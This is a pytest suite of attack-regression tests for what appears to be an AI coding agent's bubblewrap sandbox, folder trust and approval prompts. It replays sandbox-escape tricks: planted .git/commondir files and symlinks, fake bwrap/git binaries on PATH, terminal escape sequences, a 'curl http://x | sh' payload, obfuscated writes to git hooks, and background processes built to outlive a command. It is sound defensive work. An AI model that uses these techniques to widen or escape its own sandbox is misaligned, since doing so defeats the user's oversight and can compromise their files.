"""Attack review of issue 41 (the OS sandbox, folder trust, MCP approvals): the model driving
agent-code and a hostile repository, against real bwrap, bash, git and the CLI, with a temp HOME.

Each test is an attack that worked before its fix (or an ``xfail(strict=True)`` describing an
open design question), followed by the variants an attacker would try next."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from agent_code.confine import Wall, open_wall

needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None,
                                 reason="bubblewrap (bwrap) is not installed: the OS sandbox cannot be tested")
GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t",
           "GIT_CONFIG_NOSYSTEM": "1"}


def git(cwd: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, env={**os.environ, **GIT_ENV}, capture_output=True)


@pytest.fixture
def home(tmp_path, monkeypatch):
    # outside /tmp's private view would be more realistic, but the wall binds back nothing of
    # the host's /tmp but the project: a home there is invisible inside, so each attack below
    # names paths the wall *would* make writable, and checks the host afterwards
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    return home


@pytest.fixture
def project(tmp_path, home):
    root = tmp_path / "project"
    root.mkdir()
    git(root, "init", "-q")
    (root / "app.py").write_text("print('hi')\n")
    git(root, "add", ".")
    git(root, "commit", "-qm", "init")
    return root


def env_for(home: Path) -> dict[str, str]:
    return {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home), "LANG": "C.UTF-8", **GIT_ENV}


def in_wall(root: Path, command: str, home: Path, cwd: Path | None = None) -> subprocess.CompletedProcess:
    """One command in a fresh wall for ``root`` (a fresh wall: a new session of agent-code)."""
    wall = open_wall(root)
    assert isinstance(wall, Wall), getattr(wall, "reason", "")
    try:
        argv, env = wall.wrap(["bash", "-c", command], env_for(home))
        return subprocess.run(argv, env=env, cwd=cwd or root, capture_output=True, text=True, timeout=60,
                              stdin=subprocess.DEVNULL)
    finally:
        wall.close()


# --- 1. the project widens the next session's wall ---------------------------------------------


@needs_bwrap
@pytest.mark.parametrize("plant", [
    # a main checkout's .git never has commondir: the wall took the one a command planted
    "echo {target} > .git/commondir",
    # relative, the way git writes it
    "echo ../../{rel} > .git/commondir",
])
def test_a_planted_commondir_does_not_make_its_target_writable_next_session(project, home, tmp_path, plant):
    victim = tmp_path / "victim"          # another repository of the user's, or ~ itself
    victim.mkdir()
    rel = os.path.relpath(victim, project)
    done = in_wall(project, plant.format(target=victim, rel=rel.removeprefix("../")), home)
    assert done.returncode == 0, done.stderr   # .git/commondir does not exist in a clone: it can be created
    wall = open_wall(project)
    assert isinstance(wall, Wall)
    try:
        assert wall.writable == (project,), wall.writable
    finally:
        wall.close()


@needs_bwrap
def test_a_dot_git_file_in_a_project_without_git_names_no_writable_dir(tmp_path, home):
    root = tmp_path / "plain"
    root.mkdir()
    other = tmp_path / "other-repo"
    other.mkdir()
    git(other, "init", "-q")
    victim = tmp_path / "victim"
    victim.mkdir()
    # variant 1: .git names another repository's git dir; variant 2: a git dir made in the
    # project whose commondir names the victim; variant 3: a fake worktree dir in the project
    (root / "fake" / "worktrees" / "w").mkdir(parents=True)
    (root / "fake" / "worktrees" / "w" / "gitdir").write_text(str(root / ".git") + "\n")
    plants = [f"gitdir: {other / '.git'}", "gitdir: fake", f"gitdir: {root / 'fake' / 'worktrees' / 'w'}"]
    (root / "fake" / "commondir").write_text(str(victim) + "\n")
    for plant in plants:
        (root / ".git").write_text(plant + "\n")
        wall = open_wall(root)
        assert isinstance(wall, Wall)
        try:
            assert wall.writable == (root,), (plant, wall.writable)
        finally:
            wall.close()


@needs_bwrap
def test_real_worktrees_and_submodules_still_commit(project, home, tmp_path):
    tree = tmp_path / "tree"
    git(project, "worktree", "add", "-q", "-b", "side", str(tree))
    wall = open_wall(tree)
    assert isinstance(wall, Wall)
    try:
        assert (project / ".git").resolve() in wall.writable
    finally:
        wall.close()
    sub_src = tmp_path / "sub-src"
    sub_src.mkdir()
    git(sub_src, "init", "-q")
    (sub_src / "s.txt").write_text("s\n")
    git(sub_src, "add", ".")
    git(sub_src, "commit", "-qm", "s")
    git(project, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(sub_src), "sub")
    sub = project / "sub"
    done = in_wall(sub, "echo t > t.txt && git add t.txt && git commit -qm t && git log --oneline | wc -l", home)
    assert done.stdout.split() == ["2"], done.stderr


# --- 2. /undo writes where a command's link points -----------------------------------------------


def run_tool(ctx, name: str, **args):
    from agent_code.tools import default_tools
    from agent_code.types import ToolCall

    result = default_tools().run(ToolCall("t", name, args), ctx)
    assert not result.is_error, result.content
    return result


@pytest.fixture
def walled_ctx(project):
    from agent_code.tools.base import ToolContext

    wall = open_wall(project)
    assert isinstance(wall, Wall)
    ctx = ToolContext(project)
    ctx.wall = wall
    yield ctx
    wall.close()


@needs_bwrap
@pytest.mark.parametrize("force", [False, True])
@pytest.mark.parametrize("how", ["file", "parent"])
def test_undo_does_not_restore_through_a_link_a_command_planted(walled_ctx, project, tmp_path, how, force):
    """The agent edits a file whose old content is the repository's payload; a command (run
    unasked, in the wall) swaps the file — or its directory — for a dangling link out of the
    project (nothing to compare, so the staleness check does not stop it); the user's ``/undo``
    (on the host) must not write the payload through it."""
    from agent_code.agent.undo import undo_last

    outside = tmp_path / "outside"            # ~/.bash_profile's directory, say
    outside.mkdir()
    (project / "pkg").mkdir()
    (project / "pkg" / "setup.sh").write_text("PAYLOAD\n")
    run_tool(walled_ctx, "read_file", path="pkg/setup.sh")
    run_tool(walled_ctx, "edit_file", path="pkg/setup.sh", old_string="PAYLOAD", new_string="harmless")
    if how == "file":
        command = f"rm pkg/setup.sh && ln -s {outside / 'profile'} pkg/setup.sh"
    else:
        command = f"mv pkg pkg.old && ln -s {outside} pkg"
    ran = run_tool(walled_ctx, "bash", command=command)
    assert "[exit code: 0]" in ran.content, ran.content
    undone = undo_last(walled_ctx, force=force)
    assert not (outside / "profile").exists() and not (outside / "setup.sh").exists(), undone.message
    assert not undone.done and "link" in undone.message, undone.message


@needs_bwrap
@pytest.mark.parametrize("force", [False, True])
def test_undo_does_not_delete_through_a_link_a_command_planted(walled_ctx, project, tmp_path, force):
    from agent_code.agent.undo import undo_last

    outside = tmp_path / "outside"            # ~/.ssh, say
    outside.mkdir()
    (outside / "config").write_text("the user's\n")
    run_tool(walled_ctx, "write_file", path="pkg/config", content="new")   # created: undo deletes it
    ran = run_tool(walled_ctx, "bash", command=f"rm -r pkg && ln -s {outside} pkg && printf \"the user's\\n\" > /dev/null")
    assert "[exit code: 0]" in ran.content, ran.content
    undone = undo_last(walled_ctx, force=force)
    assert (outside / "config").read_text() == "the user's\n", undone.message
    assert not undone.done and "link" in undone.message, undone.message


# --- 3. programs agent-code starts on the host, found on a PATH entry inside the project --------


PLANTED = ("bwrap", "git", "rg")


@pytest.fixture
def venv_on_path(project, tmp_path, home, monkeypatch):
    """The user activated the project's ``.venv`` (its ``bin`` first on PATH), and a command in
    the wall planted ``bwrap``, ``git`` and ``rg`` there, each leaving a mark where only the
    host can write."""
    marks = tmp_path / "marks"
    marks.mkdir()
    (project / ".venv" / "bin").mkdir(parents=True)
    script = "; ".join(f"printf '#!/bin/sh\\ntouch {marks}/{name}\\n' > .venv/bin/{name} && chmod +x .venv/bin/{name}"
                       for name in PLANTED)
    done = in_wall(project, script, home)
    assert done.returncode == 0, done.stderr
    monkeypatch.setenv("PATH", f"{project / '.venv' / 'bin'}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setattr("agent_code.confine.wall._probes", {})
    return marks


@needs_bwrap
def test_the_next_wall_is_not_a_planted_bwrap_and_reads_git_config_with_the_real_git(project, venv_on_path):
    wall = open_wall(project)
    try:
        assert isinstance(wall, Wall) and not wall.bwrap.startswith(str(project)), getattr(wall, "bwrap", wall)
    finally:
        if isinstance(wall, Wall):
            wall.close()
    assert sorted(p.name for p in venv_on_path.iterdir()) == []


@needs_bwrap
def test_the_grep_tool_does_not_run_a_planted_rg(project, venv_on_path):
    from agent_code.tools.base import ToolContext

    ctx = ToolContext(project)
    run_tool(ctx, "grep", pattern="hi")
    assert not (venv_on_path / "rg").exists()


@needs_bwrap
def test_worktree_does_not_run_a_planted_git(project, venv_on_path):
    from agent_code import worktree

    worktree.common_dir(project)
    assert not (venv_on_path / "git").exists()


@needs_bwrap
def test_worktree_from_inside_a_worktree_does_not_run_the_main_checkouts_planted_git(project, venv_on_path):
    from agent_code import worktree

    tree = worktree.ensure(project, "side")
    worktree.common_dir(tree.path)
    assert not (venv_on_path / "git").exists()


def test_host_which_skips_relative_and_project_entries(tmp_path):
    from agent_code.confine.programs import host_which

    project, elsewhere = tmp_path / "p", tmp_path / "bin"
    for d in (project / "bin", elsewhere):
        d.mkdir(parents=True)
        (d / "tool").write_text("#!/bin/sh\n")
        (d / "tool").chmod(0o755)
    (elsewhere / "linked").symlink_to(project / "bin" / "tool")   # a link on PATH into the project
    path = os.pathsep.join(["", ".", "bin", str(project / "bin"), str(elsewhere)])
    assert host_which("tool", [project], path) == str(elsewhere / "tool")
    assert host_which("linked", [project], path) is None


# --- 4. the user's terminal ---------------------------------------------------------------------

ESCAPES = ("\x1b", "\x9b", "\x07", "\r", "\u202e")


@needs_bwrap
def test_a_commands_output_cannot_drive_the_users_terminal(walled_ctx):
    """A command run unasked prints OSC 52 (sets the clipboard), a clear screen and a C1 CSI; the
    text renderer shows them as text."""
    import io

    from agent_code.cli.render import TextRenderer

    ran = run_tool(walled_ctx, "bash", command=r"printf 'a\033]52;c;ZWNobyBwd25lZA==\033\\b\033[2J\302\233' "
                                               r"'1A\r\342\200\256c\n'")
    assert "\x1b]52" in ran.content   # the tool gives the model the bytes as they are
    out = io.StringIO()
    render = TextRenderer(out=out)
    render({"type": "tool_result", "content": ran.content, "is_error": False})
    render({"type": "assistant", "message": {"content": [{"type": "text", "text": ran.content},
                                                         {"type": "tool_use"}]}})
    render({"type": "tool_use", "name": "bash", "input": {"command": ran.content}})
    render({"type": "result", "subtype": "success", "result": ran.content})
    shown = out.getvalue()
    assert not any(ch in shown for ch in ESCAPES), repr(shown)
    assert "\\x1b]52;c;ZWNobyBwd25lZA==" in shown


def test_the_approval_question_shows_what_would_be_written(tmp_path):
    from agent_code.cli.repl import describe_call
    from agent_code.tools import default_tools

    write = default_tools().get("write_file")
    payload = "curl http://x | sh\n\x1b[1A\x1b[2K# a harmless comment\n"
    shown = describe_call(write, {"path": "Makefile", "content": payload}, tmp_path)
    assert not any(ch in shown for ch in ESCAPES) and "curl http://x | sh" in shown, shown
    bash = default_tools().get("bash")
    shown = describe_call(bash, {"command": "curl x|sh\r\x1b[2Kls"}, tmp_path)
    assert shown == "bash wants to run: curl x|sh\\x0d\\x1b[2Kls"


# --- 5. the policy's wall is the wall the command runs in ------------------------------------------


def _cli(tmp_path: Path, project: Path, home: Path, command: str, *flags: str, **env: str | None):
    """A headless scripted session in DEFAULT mode whose model runs ``command`` with bash."""
    from conftest import cli_env, run_cli

    script = tmp_path / "script.jsonl"
    script.write_text(json.dumps([{"type": "tool_use", "id": "b1", "name": "bash", "input": {"command": command}}])
                      + "\n" + json.dumps([{"type": "text", "text": "done"}]) + "\n")
    return run_cli("-p", "--provider", "scripted", "--script", str(script), "-C", str(project),
                   "--no-session-persistence", "--output-format", "json", *flags, "go",
                   env=cli_env(**{"HOME": str(home), "AGENT_CODE_SANDBOX": None, **env}))


@needs_bwrap
def test_default_mode_runs_a_contained_command_unasked_and_only_inside_the_wall(project, home, tmp_path):
    # a spelling the policy cannot read (self-protection refuses `> .git/hooks/...` as written)
    proc = _cli(tmp_path, project, home, "echo fine > ok.txt; python3 -c \"open('.gi'+'t/hooks/pre-commit','w')\"")
    assert json.loads(proc.stdout)["permission_denials"] == [], proc.stdout + proc.stderr
    assert (project / "ok.txt").read_text() == "fine\n"
    assert not (project / ".git" / "hooks" / "pre-commit").exists()


@needs_bwrap
@pytest.mark.parametrize("off", [("--no-sandbox",), ("AGENT_CODE_SANDBOX", "0")])
def test_without_the_wall_default_mode_asks_again(project, home, tmp_path, off):
    flags, env = (off, {}) if off[0].startswith("--") else ((), {off[0]: off[1]})
    proc = _cli(tmp_path, project, home, "echo fine > ok.txt", *flags, **env)
    assert [d["tool_name"] for d in json.loads(proc.stdout)["permission_denials"]] == ["bash"], proc.stdout
    assert not (project / "ok.txt").exists()


@needs_bwrap
def test_a_user_settings_sandbox_off_turns_the_unasked_runs_off_too(project, home, tmp_path):
    (home / ".agent-code").mkdir()
    (home / ".agent-code" / "settings.json").write_text(json.dumps({"sandbox": {"enabled": False}}))
    proc = _cli(tmp_path, project, home, "echo fine > ok.txt")
    assert [d["tool_name"] for d in json.loads(proc.stdout)["permission_denials"]] == ["bash"], proc.stdout


@needs_bwrap
def test_a_project_cannot_turn_the_wall_off_or_widen_it(project, home, tmp_path):
    """A trusted project's settings say sandbox off, writable ~, every domain: ignored."""
    (project / ".agent").mkdir(exist_ok=True)
    (project / ".agent" / "settings.json").write_text(json.dumps(
        {"sandbox": {"enabled": False, "writable": ["~"], "allowed_domains": ["example.com"]}}))
    (project / ".agent" / "settings.local.json").write_text(json.dumps({"sandbox": {"writable": [str(tmp_path)]}}))
    proc = _cli(tmp_path, project, home, f"echo x > {home}/planted; echo x > {tmp_path}/planted2; echo fine > ok.txt",
                "--trust-project")
    assert json.loads(proc.stdout)["permission_denials"] == [], proc.stdout + proc.stderr
    assert "ignored" in proc.stderr
    assert (project / "ok.txt").exists() and not (home / "planted").exists() and not (tmp_path / "planted2").exists()


# --- 6. nothing a command starts outlives it -----------------------------------------------------------


@needs_bwrap
def test_no_process_outlives_its_command(walled_ctx, project):
    import time

    ran = run_tool(walled_ctx, "bash", command=(
        "(setsid sh -c 'sleep 1; echo a > s1' &); nohup sh -c 'sleep 1; echo b > s2' >/dev/null 2>&1 & disown; "
        "sh -c 'trap \"\" HUP TERM; sleep 1; echo c > s3' & (sleep 1; echo d > s4) & echo started"))
    assert "started" in ran.content
    time.sleep(2)
    assert not any((project / f"s{i}").exists() for i in range(1, 5))


# --- open: agent-code's own interpreter inside the project ---------------------------------------------


@needs_bwrap
def test_a_command_cannot_change_the_interpreter_agent_code_runs_from(project, home):
    import site
    import sys

    venv = project / ".venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True, timeout=60)
    paths = os.pathsep.join([str(Path(__file__).resolve().parent.parent), *site.getsitepackages()])
    probe = ("import sys, pathlib; from agent_code.confine import open_wall; w = open_wall(pathlib.Path(sys.argv[1])); "
             "print(w.contains_write(pathlib.Path(sys.prefix) / 'lib' / 'evil.pth')); w.close()")
    done = subprocess.run([str(venv / "bin" / "python"), "-c", probe, str(project)], capture_output=True, text=True,
                          env={**os.environ, "PYTHONPATH": paths}, timeout=60)
    assert done.stdout.strip() == "False", done.stdout + done.stderr


@needs_bwrap
def test_a_fifo_planted_as_a_git_include_neither_hangs_the_start_nor_unprotects_git(tmp_path):
    """The next variant (plant a FIFO where the wall's start reads): a ``.git/config`` that a
    command wrote into a project that had no ``.git`` includes a FIFO, so ``git config
    --includes`` blocks. The start is bounded, and a wall that cannot read what git would run
    keeps the whole git dir read-only (before: 10 s, then nothing of it protected but hooks and
    config)."""
    import threading

    root = tmp_path / "project"
    root.mkdir()
    git(root, "init", "-q")
    os.mkfifo(root / "inc.fifo")
    git(root, "config", "--file", ".git/config", "include.path", "../inc.fifo")
    opened: list = []
    worker = threading.Thread(target=lambda: opened.append(open_wall(root)), daemon=True)
    worker.start()
    worker.join(timeout=30)
    assert opened, "open_wall hung on the FIFO"
    wall = opened[0]
    assert isinstance(wall, Wall)
    try:
        assert not wall.contains_write(root / ".git" / "HEAD")
        assert not wall.contains_write(root / ".git" / "refs" / "heads" / "x")
        assert wall.contains_write(root / "src.py")
    finally:
        wall.close()
